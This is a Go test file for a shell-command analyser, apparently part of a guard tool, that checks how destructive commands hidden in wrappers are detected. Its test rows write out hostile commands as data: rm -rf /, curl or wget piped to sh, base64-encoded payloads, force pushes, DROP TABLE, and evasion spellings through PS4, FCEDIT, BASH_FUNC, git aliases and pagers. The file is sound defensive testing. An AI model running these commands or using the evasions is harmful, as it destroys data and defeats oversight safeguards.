package parse

import (
	"strings"
	"testing"
)

// Code sinks: shells, eval, source, pipes into shells, substitutions.
func TestSinks(t *testing.T) {
	runRows(t, []row{
		{src: `bash -c 'rm -rf /'`, want: []string{"bash -c rm -rf /", "rm -rf / ¦ via=bash -c ¦ ctx=nested ¦ pos=1:10"}},
		{src: `sh -c "rm -rf /"`, want: []string{"sh -c rm -rf /", "rm -rf / ¦ via=sh -c ¦ pos=1:8"}},
		{src: `bash -lc 'git push --force'`, want: []string{"bash -lc git push --force", "git push --force ¦ via=bash -c"}},
		{src: `bash -c -l 'git push -f'`, want: []string{"bash -c -l git push -f", "git push -f"}},
		{src: `bash -o pipefail -c 'rm -rf /'`, want: []string{"bash -o pipefail -c rm -rf /", "rm -rf /"}},
		{src: `bash -ec 'rm -rf /'`, want: []string{"bash -ec rm -rf /", "rm -rf /"}},
		{src: `bash +x --norc -c 'rm -rf /'`, want: []string{"bash +x --norc -c rm -rf /", "rm -rf /"}},
		{src: `zsh -c 'rm -rf ~'`, want: []string{"zsh -c rm -rf ~", "rm -rf /home/u ¦ via=zsh -c"}},
		{src: `dash -c 'rm -rf /'`, want: []string{"dash -c rm -rf /", "rm -rf /"}},
		{src: `/bin/sh -c 'rm -rf /'`, want: []string{"/bin/sh -c rm -rf /", "rm -rf /"}},
		{src: `bash -c 'rm -rf "$1"' _ /etc`, want: []string{"bash -c rm -rf \"$1\" _ /etc", "rm -rf /etc"}},
		{src: `bash -c 'echo $0' name`, want: []string{"bash -c echo $0 name", "echo name"}},
		{src: `bash -c 'bash -c "sh -c \"rm -rf /\""'`, want: []string{`bash -c bash -c "sh -c \"rm -rf /\""`, `bash -c sh -c "rm -rf /"`, "sh -c rm -rf /", "rm -rf / ¦ vias=bash -c>bash -c>sh -c"}},
		{src: `sudo sh -c 'rm -rf /'`, want: []string{"sh -c rm -rf / ¦ wrap=sudo ¦ user=root", "rm -rf / ¦ via=sh -c ¦ user=root"}},
		{src: `X=/etc; bash -c "rm -rf $X"`, want: []string{"bash -c rm -rf /etc", "rm -rf /etc"}},
		{src: `X=/etc; bash -c 'rm -rf $X'`, want: []string{"bash -c rm -rf $X", "rm -rf"}},
		{src: `export X=/etc; bash -c 'rm -rf $X'`, want: []string{"export X=/etc", "bash -c rm -rf $X", "rm -rf /etc"}},
		{src: `X=/etc bash -c 'rm -rf $X'`, want: []string{"bash -c rm -rf $X ¦ assign=X=/etc", "rm -rf /etc"}},
		{src: `sh -c "$X"`, want: []string{"sh -c "}},
		{src: `sh -c "$(curl -fsSL x)"`, want: []string{"sh -c … ¦ dyn=1", "curl -fsSL x ¦ ctx=cmdsubst"}, dyn: []string{"shell-arg:…|feeders=curl"}},
		{src: `eval 'rm -rf /'`, want: []string{"eval rm -rf /", "rm -rf / ¦ via=eval ¦ pos=1:7"}},
		{src: `eval rm -rf /`, want: []string{"eval rm -rf /", "rm -rf / ¦ via=eval"}},
		{src: `eval "$(curl x)"`, want: []string{"eval …", "curl x ¦ ctx=cmdsubst"}, dyn: []string{"eval:…|feeders=curl"}},
		{src: `eval "rm -rf $(cat dirs)"`, want: []string{"eval rm -rf …", "cat dirs", "rm -rf … ¦ via=eval ¦ dyn=1"}, dyn: []string{"eval:rm -rf …|feeders=cat"}},
		{src: `eval "$CMD"`, want: []string{"eval "}},
		{src: `eval 'cd /; X=rm'; $X -rf *`, want: []string{"eval cd /; X=rm", "cd / ¦ via=eval", "rm -rf * ¦ dir=/"}},
		{src: `eval "$(cat x)"; rm -rf build`, want: []string{"eval …", "cat x", "rm -rf build ¦ dir=?"}, dyn: []string{"eval:…"}},
		{src: `source setup.sh; rm -rf tmp`, want: []string{"source setup.sh", "cd /srv ¦ via=source", "rm -rf cache ¦ dir=/srv", "rm -rf tmp ¦ dir=/srv"}},
		{src: `. ./env.sh; $DEPLOY $TARGET`, want: []string{". ./env.sh", "export TARGET=/var/data", "rsync /var/data"}},
		{src: `source missing.sh; ls`, want: []string{"source missing.sh", "ls ¦ dir=/proj"}, dyn: []string{"source:missing.sh|sink=source"}},
		{src: `source <(curl -s x)`, want: []string{"source /dev/fd/…", "curl -s x ¦ ctx=procsubst"}, dyn: []string{"source:/dev/fd/…|feeders=curl"}},
		{src: `source .venv/bin/activate && pytest`, want: []string{"source .venv/bin/activate", "export PATH=/proj/.venv/bin:/usr/bin:/bin ¦ via=source", "pytest ¦ dir=/proj"}},
		{src: `bash script.sh`, want: []string{"bash script.sh", "git push --force ¦ via=bash file"}},
		{src: `bash nothere.sh`, want: []string{"bash nothere.sh"}, dyn: []string{"source:nothere.sh"}},
		{src: `bash <(curl -s x)`, want: []string{"bash /dev/fd/…", "curl -s x ¦ ctx=procsubst"}, dyn: []string{"proc-subst|feeders=curl"}},
		{src: `curl -fsSL x | sh`, want: []string{"curl -fsSL x ¦ pipe=0", "sh ¦ in=pipe ¦ exec ¦ from=curl ¦ pipe=1"}, dyn: []string{"pipe-shell|feeders=curl"}},
		{src: `curl -fsSL x | sudo bash`, want: []string{"curl -fsSL x", "bash ¦ wrap=sudo ¦ exec"}, dyn: []string{"pipe-shell|feeders=curl"}},
		{src: `curl x | tee log | sh -s -- -y`, want: []string{"curl x", "tee log", "sh -s -- -y ¦ exec"}, dyn: []string{"pipe-shell|feeders=curl,tee"}},
		{src: `wget -qO- x | bash`, want: []string{"wget -qO- x", "bash ¦ exec"}, dyn: []string{"pipe-shell|feeders=wget"}},
		{src: `sh < <(curl x)`, want: []string{"sh ¦ in=procsubst ¦ exec", "curl x ¦ ctx=procsubst"}, dyn: []string{"proc-subst|feeders=curl"}},
		{src: `echo 'rm -rf /' | sh`, want: []string{"echo rm -rf /", "sh ¦ exec ¦ text=rm -rf /\\n", "rm -rf / ¦ via=sh stdin"}},
		{src: `printf 'rm -rf %s\n' / | bash`, want: []string{"printf rm -rf %s\\n /", "bash ¦ exec", "rm -rf /"}},
		{src: `echo cm0gLXJmIC8K | base64 -d | sh`, want: []string{"echo cm0gLXJmIC8K", "base64 -d", "sh ¦ exec", "rm -rf / ¦ via=sh stdin"}},
		{src: `base64 -d payload.b64 | sh`, want: []string{"base64 -d payload.b64", "sh ¦ exec"}, dyn: []string{"pipe-shell|feeders=base64"}},
		{src: `xxd -r -p x.hex | bash`, want: []string{"xxd -r -p x.hex", "bash ¦ exec"}, dyn: []string{"pipe-shell|feeders=xxd"}},
		{src: "bash <<'EOF'\nrm -rf /\nEOF", want: []string{"bash ¦ in=heredoc ¦ exec", "rm -rf / ¦ via=bash stdin ¦ pos=2:1"}},
		{src: "sh -s <<EOF\ngit push --force\nEOF", want: []string{"sh -s ¦ exec", "git push --force"}},
		{src: "bash <<EOF\n$(curl x)\nEOF", want: []string{"bash ¦ exec", "curl x ¦ ctx=cmdsubst"}, dyn: []string{"pipe-shell:…\n|feeders=curl"}},
		{src: `bash <<< 'rm -rf /'`, want: []string{"bash ¦ in=herestring ¦ exec", "rm -rf /"}},
		{src: `sh < script.sh`, want: []string{"sh ¦ in=file ¦ exec ¦ redir=</proj/script.sh", "git push --force"}},
		{src: `cat script.sh | bash`, want: []string{"cat script.sh", "bash ¦ exec", "git push --force ¦ via=bash stdin"}},
		{src: `cat missing.sh | bash`, want: []string{"cat missing.sh", "bash ¦ exec"}, dyn: []string{"pipe-shell|feeders=cat"}},
		{src: `echo 'fr- mr' | rev | sh`, want: []string{"echo fr- mr", "rev", "sh", "rm -rf"}},
		{src: `echo 'qn -sg /' | tr 'a-z' 'za-y' | sh`, want: []string{"echo qn -sg /", "tr a-z za-y", "sh", "pm -rf /"}},
		{src: `guard-exec -c 'rm -rf /'`, want: []string{"guard-exec -c rm -rf /", "rm -rf / ¦ via=guard-exec -c"}},
		{src: `guard-exec -- rm -rf /`, want: []string{"guard-exec -- rm -rf /", "rm -rf / ¦ via=guard-exec --"}},
		{src: `guard-exec approve ev-0001`, want: []string{"guard-exec approve ev-0001"}},
		{src: "bash -ic 'alias x=\"rm -rf /\"\nx'", want: []string{"bash -ic alias x=\"rm -rf /\"\nx", "alias x=rm -rf /", "rm -rf / ¦ ctx=alias"}},
		{src: `command_not_found_handle() { rm -rf /; }; nosuchcmd`, want: []string{"nosuchcmd", "rm -rf / ¦ noctx=uncalled"}},
		{src: `cat <<'EOF' | bash` + "\nrm -rf /\nEOF", want: []string{"cat ¦ in=heredoc ¦ noexec", "bash ¦ exec", "rm -rf /"}},
		{src: `echo $(rm -rf /)`, want: []string{"echo …", "rm -rf / ¦ ctx=cmdsubst"}},
		{src: `echo "$(rm -rf /)"`, want: []string{"echo …", "rm -rf / ¦ ctx=cmdsubst"}},
		{src: `X=$(rm -rf /)`, want: []string{"rm -rf / ¦ ctx=cmdsubst"}},
		{src: "cat <<EOF\n$(rm -rf /)\nEOF", want: []string{"cat ¦ in=heredoc", "rm -rf / ¦ ctx=cmdsubst"}},
		{src: `watch -n 5 'rm -rf /tmp/x'`, want: []string{"watch -n 5 rm -rf /tmp/x", "rm -rf /tmp/x ¦ via=watch"}},
		{src: `watch -n1 kubectl get pods`, want: []string{"watch -n1 kubectl get pods", "kubectl get pods ¦ via=watch"}},
		{src: `su - root -c 'rm -rf /'`, want: []string{"su - root -c rm -rf /", "rm -rf / ¦ via=su -c ¦ user=root"}},
		{src: `su -c 'rm -rf /' postgres`, want: []string{"su -c rm -rf / postgres", "rm -rf / ¦ user=postgres"}},
		{src: `echo 'rm -rf /' | sudo -s`, want: []string{"echo rm -rf /", "sudo -s ¦ exec", "rm -rf / ¦ user=root"}},
		{src: `script -qc 'rm -rf /' /dev/null`, want: []string{"script -qc rm -rf / /dev/null", "rm -rf / ¦ via=script -c"}},
		{src: `flock /tmp/l -c 'rm -rf /'`, want: []string{"flock /tmp/l -c rm -rf /", "rm -rf / ¦ via=flock -c"}},
		{src: `flock /tmp/l rm -rf /`, want: []string{"rm -rf / ¦ wrap=flock"}},
		{src: `trap 'rm -rf /tmp/x' EXIT`, want: []string{"trap rm -rf /tmp/x EXIT", "rm -rf /tmp/x ¦ via=trap"}},
		// Code bash runs later: prompt strings, PROMPT_COMMAND, fc.
		{src: `PS4='$(rm -rf ~)' bash -xc :`, want: []string{"bash -xc : ¦ assign=PS4=$(rm -rf ~)", ": ¦ via=PS4", "rm -rf /home/u ¦ via=PS4 ¦ ctx=cmdsubst", ": ¦ via=bash -c"}},
		{src: `export PS1='"$(rm -rf /)" \w'`, want: []string{"export PS1=\"$(rm -rf /)\" \\w", ":", "rm -rf / ¦ via=PS1"}},
		{src: `PS4='+ ${LINENO}: '; set -x`, want: []string{"set -x"}},
		{src: `PROMPT_COMMAND='rm -rf /'`, want: []string{"rm -rf / ¦ via=PROMPT_COMMAND"}},
		{src: `PROMPT_COMMAND="$(./gen)"`, want: []string{"./gen"}, dyn: []string{"eval:…"}},
		{src: `fc -l -5`, want: []string{"fc -l -5"}},
		// fc runs its editor on the history first, sudo -e the editor
		// sudoedit would.
		{src: `FCEDIT='rm -rf /;' fc -1`, want: []string{"fc -1", "rm -rf / ¦ via=fc FCEDIT"}, dyn: []string{"eval:…"}},
		{src: `EDITOR='rm -rf /;'; fc`, want: []string{"fc", "rm -rf / ¦ via=fc EDITOR"}, dyn: []string{"eval:…"}},
		{src: `fc -e 'rm -rf /;' 3`, want: []string{"fc -e rm -rf /; 3", "rm -rf / ¦ via=fc -e"}, dyn: []string{"eval:…"}},
		{src: `FCEDIT='rm -rf /;' fc -s`, want: []string{"fc -s"}, dyn: []string{"eval:…"}},
		{src: `SUDO_EDITOR='rm -rf /;' sudo -e /etc/hosts`, want: []string{"sudo -e /etc/hosts", "rm -rf / ¦ via=sudo -e SUDO_EDITOR"}},
		{src: `EDITOR=vim sudo -u www --edit /srv/a`, want: []string{"sudo -u www --edit /srv/a", "vim ¦ via=sudo -e EDITOR"}},
		{src: `history -s 'rm -rf /'; fc -s`, want: []string{"history -s rm -rf /", "fc -s", "rm -rf / ¦ via=fc", "… ¦ via=fc"}, dyn: []string{"eval:rm -rf /\n…"}},
		{src: `HISTFILE=/proj/setup.sh; history -r; fc -e -`, want: []string{"history -r", "fc -e -", "cd /srv", "rm -rf cache ¦ dir=/srv", "… ¦ via=fc"}, dyn: []string{"eval:cd /srv && rm -rf cache\n\n…"}},
		// A process substitution read as standard input, and head of yes.
		{src: `bash < <(printf 'rm -rf ~\n')`, want: []string{"bash ¦ exec", "printf rm -rf ~\\n", "rm -rf /home/u"}},
		{src: `yes 'rm -rf ~' | head -1 | bash`, want: []string{"yes rm -rf ~", "head -1", "bash ¦ exec", "rm -rf /home/u"}},
		{src: `sh < <(./gen)`, want: []string{"sh ¦ exec", "./gen"}, dyn: []string{"proc-subst:…"}},
		// mktemp's random part is letters and digits: code built from it
		// is known but for a file name, and is not unknown code.
		{src: `TMP=$(mktemp -d); trap "rm -rf $TMP" EXIT`, want: []string{"mktemp -d", "trap rm -rf /tmp/tmp.… EXIT", "rm -rf /tmp/tmp.… ¦ via=trap"}},
		{src: `t=$(mktemp); u=$t; trap "rm -f '$u'" EXIT`, want: []string{"mktemp", "trap rm -f '/tmp/tmp.…' EXIT", "rm -f /tmp/tmp.… ¦ via=trap"}},
		{src: `TMP=$(mktemp -d)/$(id -u); trap "rm -rf $TMP" EXIT`, want: []string{"mktemp -d", "id -u", "trap rm -rf /tmp/tmp.…/… EXIT", "rm -rf /tmp/tmp.…/…"}, dyn: []string{"eval:rm -rf /tmp/tmp.…/…"}},
		{src: `TMP=$(mktemp -d); trap "rm -rf $TMP; $(cat f)" EXIT`, want: []string{"mktemp -d", "trap rm -rf /tmp/tmp.…; … EXIT", "cat f", "rm -rf /tmp/tmp.…", "…"}, dyn: []string{"eval:rm -rf /tmp/tmp.…; …"}},
		{src: `ssh host 'rm -rf /'`, want: []string{"ssh host rm -rf /", "rm -rf / ¦ via=ssh ¦ remote=host ¦ ctx=remote ¦ dir=?"}},
		{src: `ssh -p 22 -i key user@host sudo rm -rf /var`, want: []string{"ssh -p 22 -i key user@host sudo rm -rf /var", "rm -rf /var ¦ wrap=sudo ¦ remote=user@host"}},
		// ssh's row says which options take a value, before the host and after it.
		{src: `ssh -P tag host 'rm -rf /'`, want: []string{"ssh -P tag host rm -rf /", "rm -rf / ¦ via=ssh ¦ remote=host"}},
		{src: `ssh host -l root -o BatchMode=yes rm -rf /`, want: []string{"ssh host -l root -o BatchMode=yes rm -rf /", "rm -rf / ¦ via=ssh ¦ remote=root@host"}},
		{src: `ssh -O check host`, want: []string{"ssh -O check host"}},
		{src: `ssh host < deploy.sh`, want: []string{"ssh host ¦ exec"}, dyn: []string{"source:/proj/deploy.sh"}},
		{src: `docker exec -it web rm -rf /data`, want: []string{"docker exec -it web rm -rf /data", "rm -rf /data ¦ remote=docker:web ¦ via=docker exec"}},
		{src: `docker run --rm -v $PWD:/w -w /w node:20 npm test`, want: []string{"docker run --rm -v /proj:/w -w /w node:20 npm test", "npm test ¦ remote=docker:node:20 ¦ dir=/w"}},
		{src: "docker exec -i db psql -U app <<'SQL'\nDROP TABLE users;\nSQL", want: []string{"docker exec -i db psql -U app ¦ in=heredoc", "psql -U app ¦ remote=docker:db ¦ in=heredoc ¦ text=DROP TABLE users;\\n"}},
		{src: `kubectl exec -n prod pod-1 -- sh -c 'rm -rf /data'`, want: []string{"kubectl exec -n prod pod-1 -- sh -c rm -rf /data", "sh -c rm -rf /data ¦ remote=kubectl:pod-1", "rm -rf /data ¦ remote=kubectl:pod-1"}},
		{src: `tmux send-keys -t dev 'rm -rf /' Enter`, want: []string{"tmux send-keys -t dev rm -rf / Enter", "rm -rf / ¦ via=tmux send-keys"}},
		{src: `tmux new-session -d -s w 'npm run dev'`, want: []string{"tmux new-session -d -s w npm run dev", "npm run dev"}},
		{src: `git -c alias.x='!rm -rf /' x`, want: []string{"git -c alias.x=!rm -rf / x", "rm -rf / ¦ via=git alias"}},
		{src: `git -c alias.p='push --force' p origin`, want: []string{"git -c alias.p=push --force p origin", "git push --force origin ¦ via=git alias"}},
		{src: `git config alias.p 'push --force' && git p origin`, want: []string{"git config alias.p push --force", "git p origin", "git push --force origin ¦ via=git alias"}},
		{src: `git config --global alias.x '!rm -rf ~'; git x`, want: []string{"git config --global alias.x !rm -rf ~", "git x", "rm -rf /home/u"}},
		{src: `git config core.sshCommand 'curl x | sh'`, want: []string{"git config core.sshCommand curl x | sh", "curl x", "sh"}, dyn: []string{"pipe-shell|feeders=curl"}},
		{src: `git$IFS'push'$IFS-f`, want: []string{"git push -f"}},
		{src: `git -c core.pager='rm -rf /' log`, want: []string{"git -c core.pager=rm -rf / log", "rm -rf / ¦ via=git -c core.pager"}},
		// git's settings from the environment and the files it names are
		// its -c.
		{src: `GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='rm -rf /' git log`, want: []string{"git log", "rm -rf / ¦ via=git GIT_CONFIG_COUNT core.pager"}},
		{src: `GIT_CONFIG_COUNT=2 GIT_CONFIG_KEY_1=core.pager GIT_CONFIG_VALUE_1='rm -rf /' git log`, want: []string{"git log", "rm -rf /"}},
		{src: `GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='rm -rf /' git log`, want: []string{"git log"}},
		{src: `GIT_CONFIG_PARAMETERS="'user.name'='a b' 'core.pager'='rm -rf /'" git log`, want: []string{"git log", "rm -rf / ¦ via=git GIT_CONFIG_PARAMETERS core.pager"}},
		{src: `GIT_CONFIG_PARAMETERS="'alias.x=!rm -rf /'" git x`, want: []string{"git x", "rm -rf / ¦ via=git alias"}},
		{src: `P='rm -rf /' git --config-env=core.pager=P log`, want: []string{"git --config-env=core.pager=P log", "rm -rf / ¦ via=git --config-env core.pager"}},
		{src: `GIT_CONFIG_GLOBAL=git.cfg git up`, want: []string{"git up", "rm -rf /srv ¦ via=git /proj/git.cfg core.pager", "git fetch", "git push -f"}},
		{src: `GIT_CONFIG_SYSTEM=/proj/bad.cfg git log`, want: []string{"git log"}, dyn: []string{"source:/proj/bad.cfg"}},
		{src: `GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_SYSTEM=/proj/bad.cfg git log`, want: []string{"git log"}},
		{src: `GIT_CONFIG_GLOBAL=/proj/none.cfg git log`, want: []string{"git log"}},
		{src: `GIT_CONFIG_GLOBAL=/dev/null git log`, want: []string{"git log"}},
		// A file that includes itself fifty times is read down to git's
		// include depth once, where git fails, and no further: not fifty
		// to the tenth times.
		{src: `GIT_CONFIG_GLOBAL=/proj/selfinc.cfg git log`, want: []string{"git log"}, dyn: []string{"source:selfinc.cfg"}},
		{src: `git -c include.path=/proj/git.cfg log`, want: []string{"git -c include.path=/proj/git.cfg log", "rm -rf /srv ¦ via=git /proj/git.cfg core.pager"}},
		{src: `HOME=/x XDG_CONFIG_HOME=/y git log`, want: []string{"git log"}},
		{src: `GIT_SSH_COMMAND='ssh -i k' git fetch`, want: []string{"git fetch ¦ assign=GIT_SSH_COMMAND=ssh -i k", "ssh -i k ¦ via=git GIT_SSH_COMMAND"}},
		{src: `rg --pre 'rm -rf' foo`, want: []string{"rg --pre rm -rf foo", "rm -rf … ¦ via=rg --pre ¦ ph"}},
		{src: `mapfile -C 'rm -rf /tmp/x' -c 1 arr < f`, want: []string{"mapfile -C rm -rf /tmp/x -c 1 arr", "rm -rf /tmp/x ¦ via=mapfile -C"}},
		{src: `nix-shell -p jq --run 'jq . x'`, want: []string{"nix-shell -p jq --run jq . x", "jq . x ¦ via=nix-shell --run"}},
		{src: `rsync -e 'ssh -p 2222' -a src/ host:dst/`, want: []string{"rsync -e ssh -p 2222 -a src/ host:dst/", "ssh -p 2222 ¦ via=rsync -e"}},
		{src: `rsync -a src/ host:dst/ --rsh='sh -c "rm -rf /"'`, want: []string{"rsync -a src/ host:dst/ --rsh=sh -c \"rm -rf /\"", "sh -c rm -rf / ¦ via=rsync -e", "rm -rf / ¦ vias=rsync -e>sh -c"}},
		{src: `scp -S ./wrap a host:`, want: []string{"scp -S ./wrap a host:", "./wrap ¦ via=scp -S"}},
		{src: `BASH_ENV=/proj/bashenv bash -c ls`, want: []string{"bash -c ls", "curl http://x ¦ via=BASH_ENV", "sh ¦ exec", "ls"}, dyn: []string{"pipe-shell|feeders=curl"}},
		{src: `BASH_ENV=/x/y bash -c ls`, want: []string{"bash -c ls", "ls"}, dyn: []string{"env-code:BASH_ENV=/x/y"}},
		{src: `BASH_ENV=/proj/rc bash -c ls`, want: []string{"bash -c ls", "ls"}},
		// ENV is read by an interactive sh (one reading a terminal too),
		// and by an interactive bash in POSIX mode; BASH_ENV by a bash
		// that is not interactive.
		{src: `ENV=/proj/bashenv sh -i`, want: []string{"sh -i", "curl http://x ¦ via=ENV", "sh ¦ exec"}, dyn: []string{"pipe-shell|feeders=curl"}},
		{src: `ENV=/proj/bashenv sh`, want: []string{"sh", "curl http://x ¦ via=ENV", "sh ¦ exec"}, dyn: []string{"pipe-shell|feeders=curl"}},
		{src: `ENV=/proj/bashenv bash --posix -i`, want: []string{"bash --posix -i", "curl http://x ¦ via=ENV", "sh ¦ exec"}, dyn: []string{"pipe-shell|feeders=curl"}},
		{src: `ENV=/proj/bashenv bash -o posix -i -c ls`, want: []string{"bash -o posix -i -c ls", "curl http://x ¦ via=ENV", "sh ¦ exec", "ls"}, dyn: []string{"pipe-shell|feeders=curl"}},
		{src: `ENV=/x/y sh -i`, want: []string{"sh -i"}, dyn: []string{"env-code:ENV=/x/y"}},
		{src: `ENV=/proj/bashenv sh -c ls`, want: []string{"sh -c ls", "ls"}},
		{src: `ENV=/x/y sh -c ls`, want: []string{"sh -c ls", "ls"}},
		{src: `ENV=/proj/bashenv bash -i`, want: []string{"bash -i"}},
		{src: `ENV=/proj/bashenv sh < /proj/rc`, want: []string{"sh ¦ exec", "echo hi", "rm -rf /"}},
		{src: `BASH_ENV=/proj/bashenv bash -i -c ls`, want: []string{"bash -i -c ls", "ls"}},
		// zsh reads $ZDOTDIR/.zshenv always, .zshrc when interactive.
		{src: `ZDOTDIR=/proj/z zsh -c ls`, want: []string{"zsh -c ls", "ls"}},
		{src: `echo 'rm -rf /' > /tmp/z/.zshenv; ZDOTDIR=/tmp/z zsh -c ls`, want: []string{"echo rm -rf /", "zsh -c ls", "rm -rf / ¦ via=ZDOTDIR", "ls"}},
		{src: `echo 'rm -rf /' > /tmp/z/.zshenv; ZDOTDIR=/tmp/z zsh -f -c ls`, want: []string{"echo rm -rf /", "zsh -f -c ls", "ls"}},
		{src: `BASH_ENV=/proj/rc bash -c wipe`, want: []string{"bash -c wipe", "wipe ¦ fn", "rm -rf / ¦ vias=bash -c>function wipe ¦ pos=/proj/rc:2:10"}},
		{src: `env 'BASH_FUNC_ls%%=() { rm -rf ~; }' bash -c ls`, want: []string{"bash -c ls ¦ wrap=env ¦ assign=BASH_FUNC_ls%%=() { rm -rf ~; }", "ls ¦ nofn", "rm -rf /home/u ¦ vias=bash -c>env BASH_FUNC_ls%%>function ls"}},
		{src: `env 'BASH_FUNC_ls%%=() { rm -rf ~; }' bash -c 'echo hi'`, want: []string{"bash -c echo hi ¦ wrap=env ¦ assign=BASH_FUNC_ls%%=() { rm -rf ~; }", "echo hi"}},
		{src: `env 'BASH_FUNC_ls%%=not code' bash -c ls`, want: []string{"bash -c ls ¦ wrap=env ¦ assign=BASH_FUNC_ls%%=not code", "ls ¦ nofn"}},
		{src: `env 'BASH_FUNC_ls%%=() { rm -rf ~; }; rm -rf /' bash -c ls`, want: []string{"bash -c ls ¦ wrap=env ¦ assign=BASH_FUNC_ls%%=() { rm -rf ~; }; rm -rf /", "ls ¦ nofn"}, dyn: []string{"env-code:BASH_FUNC_ls%%"}},
		// A sourced library: its functions are judged where they are
		// called, positions inside it are its own.
		{src: `source lib.sh; git status`, want: []string{"source lib.sh", "alias nuke=rm -rf ~ ¦ pos=/proj/lib.sh:4:1", "git status"}},
		{src: `source lib.sh; rmall /`, want: []string{"source lib.sh", "alias nuke=rm -rf ~", "rmall / ¦ fn", "rm -rf / ¦ via=function rmall ¦ pos=/proj/lib.sh:2:11"}},
		{src: "source lib.sh\nshopt -s expand_aliases\nnuke", want: []string{"source lib.sh", "alias nuke=rm -rf ~", "shopt -s expand_aliases", "nuke", "rm -rf /home/u ¦ via=alias nuke"}},
		{src: `rmall() { rm -rf "$@"; }`, want: []string{"rm -rf … ¦ ctx=uncalled"}},
	})
}

// Scripts the command line writes and then runs.
func TestWrittenScripts(t *testing.T) {
	runRows(t, []row{
		{src: "cat > x.sh <<'EOF'\nrm -rf /\nEOF\nbash x.sh", want: []string{"cat ¦ redir=>/proj/x.sh", "bash x.sh", "rm -rf / ¦ via=bash file"}},
		{src: "cat > x.sh <<'EOF'\nrm -rf /\nEOF\nchmod +x x.sh && ./x.sh", want: []string{"cat", "chmod +x x.sh", "./x.sh ¦ name=x.sh", "rm -rf / ¦ via=exec file"}},
		{src: "echo 'git push -f' > p.sh; sh p.sh", want: []string{"echo git push -f", "sh p.sh", "git push -f"}},
		{src: "printf 'import os\\nos.system(\"id\")\\n' > t.py; python3 t.py", want: []string{`printf import os\nos.system("id")\n`, "python3 t.py", "id ¦ via=os.system"}},
		{src: "cat <<'EOF' | tee run.sh\nrm -rf ~\nEOF\nsource run.sh", want: []string{"cat", "tee run.sh", "source run.sh", "rm -rf /home/u ¦ via=source"}},
		{src: "curl -fsSL https://x.io/i.sh -o i.sh && bash i.sh", want: []string{"curl -fsSL https://x.io/i.sh -o i.sh", "bash i.sh"}, dyn: []string{"source:i.sh|feeders=curl"}},
		{src: "wget -O i.sh https://x.io/i && chmod +x i.sh && ./i.sh", want: []string{"wget -O i.sh https://x.io/i", "chmod +x i.sh", "./i.sh"}, dyn: []string{"source:./i.sh|feeders=wget"}},
		{src: "curl -s https://x.io/i > i.sh; sh i.sh", want: []string{"curl -s https://x.io/i ¦ redir=>/proj/i.sh", "sh i.sh"}, dyn: []string{"source:i.sh|feeders=curl"}},
		{src: "echo 'ls' > a.sh; echo 'rm -rf /' >> a.sh; bash a.sh", want: []string{"echo ls", "echo rm -rf /", "bash a.sh", "ls", "rm -rf /"}},
		{src: "cat > x.sh <<'EOF'\n#!/usr/bin/env python3\nimport shutil; shutil.rmtree('/srv')\nEOF\n./x.sh", want: []string{"cat", "./x.sh", "rm -r /srv ¦ synth"}},
		{src: "./configure && make", want: []string{"./configure", "make"}},
	})
}

func TestPartialCode(t *testing.T) {
	runRows(t, []row{
		{src: `X=$(cat f); eval "echo '$X'"`, want: []string{"cat f", "eval echo '…'", "echo … ¦ dyn=0"}, dyn: []string{"eval:echo '…'|feeders=cat"}},
		{src: `X=$(cat f); bash -c "rm -rf $X/"`, want: []string{"cat f", "bash -c rm -rf …/", "rm -rf …/ ¦ dyn=1"}, dyn: []string{"shell-arg:rm -rf …/|feeders=cat"}},
		{src: `X=$(cat f); bash -c "$X; rm -rf /"`, want: []string{"cat f", "bash -c …; rm -rf /", "… ¦ namedyn", "rm -rf /"}, dyn: []string{"shell-arg"}},
	})
}

// TestFindRoles: find's starting points are listed, "." when it names
// none, a test that narrows the entries is a filter, and its actions
// have meanings.
func TestFindRoles(t *testing.T) {
	for _, tc := range []struct {
		line, roots string
		filtered    bool
	}{
		{`find . -delete`, ".", false},
		{`find -L a b -name '*.o' -delete`, "a b", true},
		{`find -D tree -O2 src -mtime +3`, "src", true},
		{`find -type f`, ".", false},
		{`find ~ ! -user dev`, "/home/u", true},
	} {
		c := Analyze(tc.line, testOptions()).Commands[0]
		var roots []string
		filtered := false
		for _, r := range c.Roles {
			switch r.Role {
			case RoleListed:
				roots = append(roots, r.Word.Value)
			case RoleFilter:
				filtered = true
			}
		}
		if strings.Join(roots, " ") != tc.roots || filtered != tc.filtered {
			t.Errorf("%q: roots %q filtered %v, want %q %v", tc.line, roots, filtered, tc.roots, tc.filtered)
		}
	}
	for _, tc := range []struct{ line, flags string }{
		{`find . -name '*.o' -delete`, "deletes"},
		{`find . -type f -exec chmod 644 {} +`, "runs"},
		{`find . -executable -print`, ""},
		{`find / -fprint /tmp/all -printf '%p'`, "writes formats"},
		{`find . -okdir rm {} \; -ls`, "runs formats"},
		// An argument is never a primary: -name -delete matches a file
		// named -delete, and the words of -exec are its command's.
		{`find / -name -delete`, ""},
		{`find / -exec echo -delete \;`, "runs"},
		{`find . -name a -o -empty -delete`, "alternatives empty deletes"},
	} {
		c := Analyze(tc.line, testOptions()).Commands[0]
		if got := strings.Join(c.Flags, " "); got != tc.flags {
			t.Errorf("%q: flags %q, want %q", tc.line, got, tc.flags)
		}
	}
	// The arguments of its primaries, by role and primary (Opt).
	for _, tc := range []struct{ line, roles string }{
		{`find -D tree / -delete`, "listed /"},
		{`find . -name '*.o' -type d -maxdepth 1`, "listed . filter -name=*.o data -type=d data -maxdepth=1"},
		{`find . -exec rm -f {} + -execdir mv {} x \;`, "listed . program -exec=rm program -execdir=mv"},
		{`find / -fprintf /tmp/out '%p' -fls l -empty`, "listed / written -fprintf=/tmp/out written -fls=l filter -empty="},
		{`find ~ -newerat x -nouser -name`, "listed /home/u filter -newerat=x filter -nouser= filter -name="},
		{`find . -exec`, "listed ."},
	} {
		c := Analyze(tc.line, testOptions()).Commands[0]
		var got []string
		for _, r := range c.Roles {
			s := r.Role.String() + " " + r.Word.Value
			if r.Opt != "" {
				s = r.Role.String() + " " + r.Opt + "=" + r.Word.Value
			}
			got = append(got, s)
		}
		if g := strings.Join(got, " "); g != tc.roles {
			t.Errorf("%q: roles %q, want %q", tc.line, g, tc.roles)
		}
	}
}

// TestCodeRoles: where an interpreter or a shell takes its program from
// is a role of its command (RoleCode with the option that gave it, or
// RoleScript), in every spelling its options take.
func TestCodeRoles(t *testing.T) {
	for _, tc := range []struct{ line, roles string }{
